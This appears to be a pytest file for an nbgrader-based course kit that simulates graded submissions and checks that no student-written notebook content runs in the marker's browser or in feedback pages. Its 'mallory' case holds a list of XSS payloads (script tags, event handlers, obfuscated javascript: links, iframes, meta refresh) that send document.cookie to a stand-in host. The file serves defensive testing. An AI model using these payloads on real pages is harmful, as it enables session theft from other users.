"""A round of grading as kit/pages/grading.md tells it: release, autograde, mark, feed back.

    make test-kit

anna answers right and bert wrong. mallory answers right, makes text of an answer and of a check, as
the key M does, and writes what would run in the browser of the marker. The notebooks of the others
are not as they were released.
"""

import copy
import csv
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from kit import chromium, course, grading

from .browser import opened

PATIENCE = 240_000  # milliseconds
SHEET, NOTEBOOK, BY_HAND = "lesson01", "01_polynomial_kernel", "to_think_about"
ANSWER, CHECK = "quadratic_features", "check-quadratic_features"
WRONG = "def quadratic_features(x):\n    return x**2"
HINT = "Hint: quadratic_features: the squares alone: the products x_i x_j are missing."
EMPTY = "YOUR ANSWER HERE"
FORMULA = r"Thus $a_i < b_i$ and $\sum_i x_i \le 1$."
PHOTO = {"p.png": {"image/png": "iVBORw0KGgo="}}

# Each sets the title of the page to "reached", or asks an address outside, when the page is opened
# or a link in it is clicked.
RUN = "document.title='reached';fetch('http://example.org/'+document.cookie)"
TAG = f'<img src=x onerror="{RUN}">'
TEXTS = {
    "a script": f"<script>{RUN}</script>",
    "a script over lines": f"<ScRiPt\n>\n{RUN}\n</sCrIpT\n>",
    "a handler": TAG,
    "an animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "a form": '<form action="http://example.org/"><button autofocus>Next &rarr;</button></form>',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=http://example.org/">',
    "a base for all links": '<base href="http://example.org/">',
    "a style": "<style>@import 'http://example.org/'; body {display: none}</style>",
    "an open tag": f'<img src=x onerror="{RUN}" x="',
    "a comment that ends": f"<!--> {TAG} -->",
    "code that is none": f"\\`{TAG}\\`",
    "a text in a formula": rf"$\text{{{TAG}}}$",
    "an environment": rf"\begin{{align}}{TAG}\end{{align}}",
    "a diagram": f"```mermaid\n{TAG}\n```",
    "a table": f"| a |\n|---|\n| {TAG} |",
    "a link": f"[x](javascript:{RUN})",
    "a link in disguise": f"[x](&#106;ava&Tab;script:{RUN})",
    "a link named elsewhere": f"[x]\n\n[x]: <java\nscript:{RUN}>",
    "an address": f"<javascript:{RUN}>",
    "a picture from outside": "![x](http://example.org/x.png)",
    "a picture that is not there": "![x](attachment:gone.png)",
    "a title": f"[x](y '\"> {TAG}')",
    "a heading": f'# x {TAG} {{#"><i>}}',
}
SHOWING = f"""\
from IPython.display import HTML, Javascript, Markdown, display
display(HTML({TAG!r}), Javascript({RUN!r}), Markdown({TAG!r}))
raise ValueError({TAG!r})"""
CLICKS = """() => document.querySelectorAll('#notebook a, math [href]').forEach(link => {
    if (!/^https?:/.test(link.href)) link.dispatchEvent(new MouseEvent('click'));
})"""


def environment():
    """That of a lecturer who has activated the course: nbgrader starts programs by name."""
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
    return {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | {"PATH": path}


def nbgrader(folder, *arguments, code=0):
    """What nbgrader says, run in the course, as a lecturer does."""
    command = [sys.executable, "-m", "nbgrader", *arguments]
    done = subprocess.run(command, cwd=folder, env=environment(), capture_output=True, text=True)
    assert done.returncode == code, done.stdout + done.stderr
    return done.stdout + done.stderr


def marks(folder):
    """{student: points}."""
    nbgrader(folder, "export", "--to", "grades.csv")
    with (folder / "grades.csv").open(encoding="utf-8") as file:
        return {row["student_id"]: float(row["score"]) for row in csv.DictReader(file)}


def as_text(cell):
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]
    return cell


def mallory(nb):
    for cell in nb.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in (ANSWER, "check-highest_degree"):
            as_text(cell).attachments = PHOTO
        elif name == BY_HAND:
            cell.source = FORMULA
        cell.metadata["tags"] = [f'">{TAG}']
    nb.cells += [nbformat.v4.new_markdown_cell(text) for text in TEXTS.values()]
    nb.cells.append(nbformat.v4.new_code_cell(SHOWING))


def named(nb, name):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def copied(nb, name, source=None):
    nb.cells.insert(nb.cells.index(named(nb, name)) + 1, twin := copy.deepcopy(named(nb, name)))
    twin.id, twin.source = "twin", source or twin.source


def deleted(nb, names):
    for name in names:
        nb.cells.remove(named(nb, name))


def labelled(nb, **values):
    for cell in nb.cells:
        cell.metadata.get("nbgrader", {}).update(values)


def in_colab(nb):
    """Which keeps ids in the metadata; with a check that was turned into text."""
    as_text(nb.cells[4])
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.metadata = {"id": cell.pop("id")}


def stripped(nb, first=lambda nb: None):
    first(nb)
    for cell in nb.cells:
        cell.metadata = {}


def written(nb, source, name=ANSWER, below="", tags=()):
    named(nb, name).source = source.format(named(nb, name).source)
    named(nb, CHECK).metadata["tags"] = tags
    nb.cells.append(nbformat.v4.new_markdown_cell(below))


WARNS = """{}
def quadratic_features(x, right=quadratic_features):
    print("slow", file=__import__("sys").stderr)
    return right(x)"""
ENDLESS, ENDED = "while True:\n    pass", "import os\nos._exit(1)"
FINE, LOST = "is fine", "has no to_think_about"
ZERO = "got 0 points for check-quadratic_features, because of"
CASES = {  # what became of right answers, the points (3 more are given by hand), and what is said
    "anna": (labelled, {}, 3, FINE),
    "bert": (written, {"source": WRONG}, 2, FINE),
    "mallory": (mallory, {}, 3, FINE),
    "answer_copied": (copied, {"name": ANSWER}, 3, FINE),
    "check_copied": (copied, {"name": CHECK}, 3, FINE),
    "text_copied": (copied, {"name": BY_HAND, "source": EMPTY}, 3, FINE),
    "old_labels": (labelled, {"schema_version": 1}, 3, FINE),
    "new_labels": (labelled, {"schema_version": 4}, 3, FINE),
    "unknown_labels": (labelled, {"grade_id": "mine"}, 3, FINE),
    "stripped": (stripped, {}, 3, FINE),
    "in_colab": (in_colab, {}, 3, FINE),
    "stripped_of_ids": (stripped, {"first": in_colab}, 3, LOST),
    "check_deleted": (deleted, {"names": [CHECK]}, 3, FINE),
    "answer_deleted": (deleted, {"names": [ANSWER]}, 2, f"{ZERO} NameError"),
    "both_deleted": (deleted, {"names": [ANSWER, CHECK]}, 2, f"{ZERO} NameError"),
    "text_deleted": (deleted, {"names": ["rubric", BY_HAND]}, 3, LOST),
    "text_elsewhere": (written, {"source": EMPTY, "name": BY_HAND, "below": "A cone."}, 3, LOST),
    "text_as_released": (written, {"source": EMPTY, "name": BY_HAND}, 3, FINE),
    "warning": (written, {"source": WARNS}, 3, FINE),
    "check_skipped": (written, {"source": WRONG, "tags": ["skip-execution"]}, 2, FINE),
    "endless": (written, {"source": ENDLESS}, 2, f"{ZERO} CellTimeoutError"),
    "process_ended": (written, {"source": ENDED}, 0, "is not graded: a cell ends the process"),
    "not_json": (f"{NOTEBOOK}.ipynb", {}, 0, "is not graded: it is no notebook"),
    "other_name": (f"{NOTEBOOK} (1).ipynb", {}, 0, "is not graded: no file has the name"),
    "no_notebook": ("answers.docx", {}, 0, "is not graded: it has no notebook"),
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course in which all have submitted, were graded and got feedback; marks, what was said."""
    folder = tmp_path_factory.mktemp("grading") / "course"
    course.make(folder)
    with (folder / "nbgrader_config.py").open("a") as config:
        config.write("c.ExecutePreprocessor.timeout = 20\n")
    nbgrader(folder, "generate_assignment", SHEET, "--create")
    solved, right = (
        nbformat.read(folder / kind / SHEET / f"{NOTEBOOK}.ipynb", 4)
        for kind in ("source", "release")
    )
    assert "SOLUTION" not in "".join(cell.source for cell in right.cells)
    for cell, answer in zip(right.cells, solved.cells, strict=True):
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = answer.source
    for student, (change, how, _, _) in CASES.items():
        path = folder / "submitted" / student / SHEET / f"{NOTEBOOK}.ipynb"
        path.parent.mkdir(parents=True)
        if callable(change):
            change(nb := copy.deepcopy(right), **how)
            nbformat.write(nb, path)
        else:
            path.with_name(change).write_text("{")
    own = folder.parent / "profile_default/startup/00.py"  # the grader's: no cell runs under it
    own.parent.mkdir(parents=True)
    own.write_text("import os; os._exit(1)")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("IPYTHONDIR", str(folder.parent))
        said = nbgrader(folder, "autograde", SHEET, code=1)
    nbgrader(folder, "generate_feedback", SHEET)
    return folder, marks(folder), dict(re.findall(r"\] submitted/(\w+)/lesson01 (.+)", said))


@pytest.fixture(scope="module")
def folder(graded):
    return graded[0]


def feedback(folder, who):
    """What the page of a student says, without its styles."""
    page = folder / "feedback" / who / SHEET / f"{NOTEBOOK}.html"
    return page.read_text(encoding="utf-8").partition("<body")[2]


@pytest.mark.parametrize("student", CASES)
def test_answers_get_their_points_or_a_word_to_the_lecturer(graded, student):
    _, points, said = graded
    assert points.get(student, 0) == CASES[student][2]
    assert said.get(student, "is fine.").startswith(CASES[student][3])


def test_no_answer_in_words_gets_0_points_but_the_one_that_is_not_there(folder):
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as book:
        found = book.assignment_submissions(SHEET)
        done = {one.student.id for one in found if not one.needs_manual_grade}
    assert done - {"mallory"} == {"text_as_released"}  # another test marks mallory by hand


@pytest.mark.parametrize("student", ["check_deleted", "text_deleted", "stripped_of_ids"])
def test_a_cell_is_added_in_its_place_and_only_if_it_is_missing(folder, student):
    nb = nbformat.read(folder / "autograded" / student / SHEET / f"{NOTEBOOK}.ipynb", 4)
    assert len({cell.source for cell in nb.cells}) == len(nb.cells)
    sources = [cell.source.partition("(")[0] for cell in nb.cells]
    assert sources.index("checks.quadratic_features") == sources.index("def quadratic_features") + 1


def test_feedback_names_the_mistake_and_shows_no_line_of_a_check(folder):
    said = feedback(folder, "bert")
    assert said.count("Hint: ") == 1
    assert HINT in said
    assert "Traceback" not in said
    assert "Hint: " not in feedback(folder, "anna")


def test_a_text_is_shown_with_its_formulas_and_a_pasted_picture():
    text = f"## A\n\n{FORMULA}\n\n1. `x<y` **b** [l](https://a.org)\n\n![](attachment:p.png)"
    said = grading.shown({"cell": {"attachments": PHOTO}}, text)
    assert FORMULA.replace("<", "&lt;") in said
    for tag in ("<h2>", "<p>", "<ol>", "<code>x&lt;y</code>", '<a href="https://a.org">'):
        assert tag in said
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in said


# Marking by hand in a browser


@pytest.fixture(scope="module")
def lab(folder):
    """The address of JupyterLab, started in the folder of the course once all is autograded."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "jupyterlab", "--no-browser", "--ServerApp.ip=127.0.0.1"]
    command += ["--allow-root", f"--ServerApp.port={port}", "--ServerApp.port_retries=0"]
    env = environment() | {"JUPYTER_TOKEN": "kit", "HOME": str(folder.parent)}
    with (folder.parent / "lab.log").open("w") as log:
        server = subprocess.Popen(command, cwd=folder, env=env, stdout=log, stderr=log)
        address = f"http://127.0.0.1:{port}/"
        for _ in range(480):
            time.sleep(0.25)
            if server.poll() is not None:
                pytest.fail((folder.parent / "lab.log").read_text())
            try:
                urllib.request.urlopen(f"{address}api", timeout=5).close()
                break
            except OSError:
                pass
        yield address
        server.terminate()
        server.wait()


def title_after_clicks(tab) -> str:
    """The title of a page once each of its links was clicked that leads to no other page."""
    tab.evaluate(CLICKS)
    tab.wait_for_timeout(500)
    return tab.title()


def unforeseen(faults):
    """All but that MathJax, which nbgrader has from another address, was not fetched here."""
    return [fault for fault in faults if not re.search("mathjax|ERR_FAILED", fault, re.I)]


def test_no_text_of_a_student_runs_where_answers_are_marked(folder, lab, browser):
    with opened(browser, lab, "lab?token=kit") as (tab, faults):  # which logs in
        tab.goto(f"{lab}formgrader/gradebook/{SHEET}/{NOTEBOOK}")
        faults.clear()  # JupyterLab's own, which come until another page is there
        row = tab.locator("tbody tr", has_text="mallory")
        row.locator(".glyphicon-eye-open").click(timeout=PATIENCE)
        row.locator("a.name-shown").click()
        tab.wait_for_load_state("networkidle")  # the marks that there are have come
        tab.locator(f"#{BY_HAND}").fill("3")
        with tab.expect_response(lambda got: "/api/grade/" in got.url):
            tab.locator(f"#{BY_HAND}").blur()
        shown = tab.locator("#notebook").first.inner_text()
        assert FORMULA in shown
        assert f"<script>{RUN}</script>" in shown
        assert title_after_clicks(tab) == NOTEBOOK
        assert unforeseen(faults) == []
    assert marks(folder)["mallory"] == 3 + 3


def test_no_text_of_a_student_runs_in_feedback(folder, browser):
    with (
        chromium.served(folder / "feedback/mallory" / SHEET) as address,
        opened(browser, address, f"{NOTEBOOK}.html") as (tab, faults),
    ):
        assert title_after_clicks(tab) == NOTEBOOK
        assert unforeseen(faults) == []
